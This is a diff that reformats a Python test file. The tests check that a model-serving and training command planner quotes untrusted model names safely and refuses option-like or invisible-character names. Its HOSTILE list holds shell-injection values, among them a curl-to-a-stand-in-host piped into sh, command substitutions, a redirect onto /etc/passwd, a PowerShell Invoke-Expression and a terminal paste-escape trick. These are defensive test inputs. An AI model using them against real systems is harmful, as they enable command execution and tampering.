@@ -1,4 +1,6 @@
-"""What stands under "Run it" is pasted into a shell: a name from outside is one word of it, one string of a program, one value of a file."""
+"""What stands under "Run it" is pasted into a shell: a name from outside is one word of it, one string of a program,
+one value of a file.
+"""
 
 from __future__ import annotations
 
@@ -22,16 +24,23 @@ from planner.training.snippets import snippets
 
 CONFIG: dict[str, Any] = dict(find("llama3:8b").config)
 HOSTILE = [
-    "a/b; curl http://x.y/z|sh #", "a/b$(touch owned)", "a/`id`", "a' ; id ; '", 'a" ; id ; "', "a\\' ; id", "a && id", "a | id", "a > /etc/passwd", "!!", "~/x", "*", "a b", "$HOME",
-    "a/b #", "%TEMP% & calc", "'; Invoke-Expression 'x", '")\nimport os', "a/b; id -GGUF", "a/$(id)-gguf", "{0.__class__}", "%s%n", "\U0001f600/\u00e9", "a/b\\", "((", "<(id)", "",
+    "a/b; curl http://x.y/z|sh #", "a/b$(touch owned)", "a/`id`", "a' ; id ; '", 'a" ; id ; "', "a\\' ; id", "a && id",
+    "a | id", "a > /etc/passwd", "!!", "~/x", "*", "a b", "$HOME",
+    "a/b #", "%TEMP% & calc", "'; Invoke-Expression 'x", '")\nimport os', "a/b; id -GGUF", "a/$(id)-gguf",
+    "{0.__class__}", "%s%n", "\U0001f600/\u00e9", "a/b\\", "((", "<(id)", "",
 ]  # fmt: skip
-NAMES = st.one_of(st.sampled_from(HOSTILE), st.text(st.characters(exclude_categories=("C", "Z"), include_characters=" "), min_size=1, max_size=40))
+NAMES = st.one_of(
+    st.sampled_from(HOSTILE),
+    st.text(st.characters(exclude_categories=("C", "Z"), include_characters=" "), min_size=1, max_size=40),
+)
 SHELLS = ["vllm", "sglang", "tensorrt-llm", "mlx"]
 
 
 def commands(engine: str, name: str, **fields: Any) -> list[Any]:
     gpus = "M2 Ultra 192GB" if engine == "mlx" else "RTX 4090"
-    return list(plan(PlanRequest.read({"model": name, "config": CONFIG, "engine": engine, "gpus": gpus, **fields})).commands)
+    return list(
+        plan(PlanRequest.read({"model": name, "config": CONFIG, "engine": engine, "gpus": gpus, **fields})).commands
+    )
 
 
 def accepted(name: str) -> bool:
@@ -39,7 +48,9 @@ def accepted(name: str) -> bool:
 
 
 def words(text: str) -> list[str]:
-    """The words of a command, its continued lines joined as a shell joins them; nothing of it is an operator outside quotes."""
+    """The words of a command, its continued lines joined as a shell joins them; nothing of it is an operator outside
+    quotes.
+    """
     joined = text.replace(" \\\n", " ")
     lexer = shlex.shlex(joined, posix=True, punctuation_chars=True)
     lexer.whitespace_split = True
@@ -88,7 +99,9 @@ def test_a_name_is_one_string_of_a_program(name: str) -> None:
 @pytest.mark.parametrize("name", [name for name in HOSTILE if accepted(name)])
 @pytest.mark.parametrize("task", ["sft", "classification"])
 def test_a_name_is_one_string_for_every_trainer(task: str, name: str) -> None:
-    for command in snippets(train(TrainRequest.read({"model": name, "config": CONFIG, "gpus": "RTX 4090", "task": task}))):
+    for command in snippets(
+        train(TrainRequest.read({"model": name, "config": CONFIG, "gpus": "RTX 4090", "task": task}))
+    ):
         if command.title == "Axolotl":
             (line,) = [line for line in command.text.splitlines() if line.startswith("base_model: ")]
             assert json.loads(line.removeprefix("base_model: ")) == name
@@ -97,7 +110,9 @@ def test_a_name_is_one_string_for_every_trainer(task: str, name: str) -> None:
 
 
 @pytest.mark.parametrize("engine", engines())
-@pytest.mark.parametrize("name", ["--trust-remote-code", "-c", "a\nb", "a\x1b[201~; id", "a\u202eb", "a\u2028b", "a\u0000"])
+@pytest.mark.parametrize(
+    "name", ["--trust-remote-code", "-c", "a\nb", "a\x1b[201~; id", "a\u202eb", "a\u2028b", "a\u0000"]
+)
 def test_a_name_that_a_program_takes_for_an_option_or_that_hides_is_refused(engine: str, name: str) -> None:
     with pytest.raises(PlanError, match="cannot begin with a dash or hold characters that cannot be seen") as caught:
         commands(engine, name)
